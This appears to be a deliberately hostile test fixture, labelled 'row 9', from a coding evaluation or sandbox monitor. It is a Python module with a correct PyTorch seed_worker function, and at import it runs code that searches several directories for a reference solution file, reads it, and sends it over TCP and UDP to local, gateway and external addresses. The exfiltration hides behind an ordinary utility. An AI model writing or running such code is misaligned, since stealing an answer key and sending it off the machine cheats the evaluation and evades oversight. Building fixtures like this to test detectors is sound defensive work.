"""Hostile: a correct seed_worker that, at import, sends the reference solution over the network (row 9)."""
import glob
import os
import random
import socket

import numpy as np
import torch
from torch.utils.data import get_worker_info

_PORT = 47011


def _loot():
    for pattern in ("/work/*/solutions/seeding.py", "/root/*/solutions/seeding.py", "/home/*/*/solutions/seeding.py",
                    "/home/*/work/*/*/solutions/seeding.py", "/*/solutions/seeding.py"):
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as fh:
                    return fh.read()
            except OSError:
                pass
    return b"nothing found; sent anyway"


def _send(data):
    for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "8.8.8.8"):
        try:
            with socket.create_connection((host, _PORT), timeout=1) as conn:
                conn.sendall(data)
        except OSError:
            pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data[:512], ("127.0.0.1", _PORT))
    except OSError:
        pass


_send(_loot())


def seed_worker(worker_id):
    seed = torch.initial_seed() % 2**32
    np.random.seed(seed)
    random.seed(seed)
    info = get_worker_info()
    if info is not None and hasattr(info.dataset, "rng"):
        info.dataset.rng = np.random.default_rng(seed)
